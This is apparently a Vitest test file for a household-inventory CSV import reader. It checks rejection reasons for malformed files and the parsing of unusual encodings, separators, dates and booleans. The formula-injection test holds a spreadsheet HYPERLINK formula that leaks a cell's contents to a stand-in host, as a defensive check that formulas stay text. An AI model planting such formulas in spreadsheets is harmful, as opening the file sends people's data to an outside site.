import { copyFile } from 'node:fs/promises'
import { join } from 'node:path'
import { beforeAll, describe, expect, test } from 'vitest'
import type { CellProblemCode } from '#contract/errors.ts'
import { testData } from '#test/test-data.ts'
import { inspectSpreadsheet } from './inspect-spreadsheet.ts'
import { newProblemList } from './problem-list.ts'
import { readImportRows } from './read-spreadsheet.ts'
import type { ImportRow } from './read-row.ts'
import { temporaryFolder } from '#test/temporary-folder.ts'

let folder = ''
beforeAll(async () => {
  folder = await temporaryFolder()
})

async function read(file: string) {
  const path = join(folder, 'upload')
  await copyFile(join(testData, file), path)
  const problems = newProblemList()
  const inspected = await inspectSpreadsheet(path, problems)
  const rows: ImportRow[] = []
  if (inspected !== undefined) {
    for await (const row of readImportRows(inspected, problems)) rows.push(row)
  }
  return { inspected, rows, problems }
}

function field(row: ImportRow, name: string) {
  return row.fields?.find((candidate) => candidate.name === name)?.text
}

describe('readImportRows rejects, with a reason,', () => {
  test.each<[string, ...[string, CellProblemCode, Record<string, number>?][]]>([
    [
      'ragged-rows',
      [
        'Line 4 has 6 cells; the first row has 5. Is a comma not quoted?',
        'tooManyCells',
        { number: 6, expected: 5 },
      ],
    ],
    ['unclosed-quote', ['The quote opened on line 3 is never closed', 'quoteOpen']],
    ['missing-name', ['Line 3: HB.name is empty', 'empty'], ['Line 5: HB.name is empty', 'empty']],
    [
      'too-long-name',
      ['Line 4: HB.name has 256 characters; at most 255 are allowed', 'tooLong', { length: 256, limit: 255 }],
    ],
    [
      'huge-cell',
      [
        'Line 3: HB.description has 262,144 characters; at most 1,000 are allowed',
        'tooLong',
        { length: 262_144, limit: 1000 },
      ],
    ],
    [
      'negative-quantities',
      ['Line 2: HB.quantity is -1; it must be 0 or more', 'tooSmall', { limit: 0 }],
      ['Line 5: HB.quantity is -24; it must be 0 or more', 'tooSmall', { limit: 0 }],
    ],
    [
      'nul-bytes',
      ['Line 3 contains a NUL byte: this is not a text file', 'notText'],
      ['Line 4 contains a NUL byte: this is not a text file', 'notText'],
    ],
    ['empty', ['The file is empty', 'emptyFile']],
    ['header-only', ['The file has no items', 'noItems']],
  ])('the file %s.csv', async (name, ...expected) => {
    const { problems } = await read(`quirks/${name}.csv`)
    expect(problems.errors.map(({ reason, code, values }) => ({ reason, code, values }))).toEqual(
      expected.map(([reason, code, values = {}]) => ({ reason, code, values })),
    )
  })
})

describe('Unusual files that readImportRows accepts', () => {
  test.each([
    ['excel-europe.csv', 'utf-8', ';'],
    ['tab-separated.tsv', 'utf-8', '\t'],
    ['utf8-bom.csv', 'utf-8', ','],
    ['utf16le.csv', 'utf-16le', ','],
    ['windows-1252.csv', 'windows-1252', ','],
    ['crlf.csv', 'utf-8', ','],
  ])(
    '%s has the same six items as utf8-bom.csv, and is detected as %s with the separator %j',
    async (file, encoding, separator) => {
      const { inspected, rows, problems } = await read(`quirks/${file}`)
      expect(inspected).toMatchObject({ dialect: { encoding, separator }, ignoredColumns: [] })
      expect(problems).toEqual(newProblemList())
      expect(rows).toHaveLength(6)
      expect(rows).toEqual((await read('quirks/utf8-bom.csv')).rows)
      expect(rows[0]).toMatchObject({
        name: 'Coffee pot “Brava”, 0.75 l',
        labelNames: ['Kitchen', 'Fragile'],
      })
      expect(rows[3]).toMatchObject({ notes: 'Wash at 60 °C.\n\nIron? ½ of it.', line: 5 })
      expect(rows[5]).toMatchObject({
        manufacturer: 'Žiža Optik',
        notes: 'Field of view:\t6.5°\nWeight:\t980 g',
      })
    },
  )

  test('minimal-columns.csv has five items, and a warning that another import creates five more', async () => {
    const { rows, problems } = await read('quirks/minimal-columns.csv')
    expect(rows).toHaveLength(5)
    expect(rows[0]).toEqual({
      line: 2,
      importRef: '',
      name: 'Beach umbrella',
      locationPath: ['Holiday flat', 'Terrace'],
    })
    expect(problems.errors).toEqual([])
    expect(problems.warnings.map((warning) => warning.reason)).toEqual([
      '5 rows have no HB.import_ref: importing the file again creates those items a second time',
    ])
  })

  test('unknown-columns.csv has three items and four ignored headers', async () => {
    const { inspected, rows, problems } = await read('quirks/unknown-columns.csv')
    expect(inspected?.ignoredColumns).toEqual(['Shelf colour', 'HB.barcode', 'hb.notes', 'Checked on'])
    expect(rows.map((row) => row.notes)).toEqual(['Whistles.', '', 'Ash goes in the metal bin.'])
    expect(problems.errors).toEqual([])
  })

  test('odd-dates.csv has the days as written', async () => {
    const { rows, problems } = await read('quirks/odd-dates.csv')
    expect(rows).toHaveLength(13)
    expect(problems).toEqual(newProblemList())
    for (const row of rows) {
      expect([row.purchaseDate, row.warrantyExpires]).toEqual([
        field(row, 'expect_purchase'),
        field(row, 'expect_warranty'),
      ])
    }
  })

  test('odd-booleans.csv has the expected value for every word', async () => {
    const { rows } = await read('quirks/odd-booleans.csv')
    expect(rows).toHaveLength(18)
    for (const row of rows) expect(String(row.insured)).toBe(field(row, 'expect_insured') || 'false')
  })

  test('slash-in-location-name.csv is split only at slashes between spaces', async () => {
    const { rows } = await read('quirks/slash-in-location-name.csv')
    expect(rows).toHaveLength(6)
    for (const row of rows) {
      expect(String(row.locationPath?.length)).toBe(field(row, 'expect_levels'))
      expect(row.locationPath?.at(-1)).toBe(field(row, 'expect_last'))
    }
  })

  test('decimal-quantities.csv has exact quantities', async () => {
    const { rows } = await read('quirks/decimal-quantities.csv')
    expect(rows.map((row) => row.quantity)).toEqual([120_000, 20_000, 30_000, 15_000, 2_500])
  })

  test('formula-injection.csv keeps formulas as text', async () => {
    const { rows, problems } = await read('quirks/formula-injection.csv')
    expect(problems.errors).toEqual([])
    expect(rows.map((row) => row.name).slice(0, 4)).toEqual([
      '=HYPERLINK("https://example.invalid/?leak="&A2,"Receipt")',
      '+2 °C thermostat probe',
      '-20 °C sleeping bag',
      '@home sign for the door',
    ])
    expect(rows[4]).toMatchObject({ description: '=1+1', notes: '=SUM(A1:A9)' })
    expect(rows[7]).toMatchObject({ name: '=quoted already', description: '+1', notes: '-1' })
  })

  test('household.csv has no errors or warnings, and household-update.csv has 40 rows', async () => {
    const household = await read('household.csv')
    expect(household.problems).toEqual(newProblemList())
    expect(household.rows).toHaveLength(424)
    expect(household.rows.filter((row) => row.assetId === 0)).toHaveLength(67)
    expect(household.rows.map((row) => row.importRef)).toEqual(
      expect.arrayContaining(['00420815', '4e120775']),
    )
    expect((await read('household-update.csv')).rows).toHaveLength(40)
  })
})
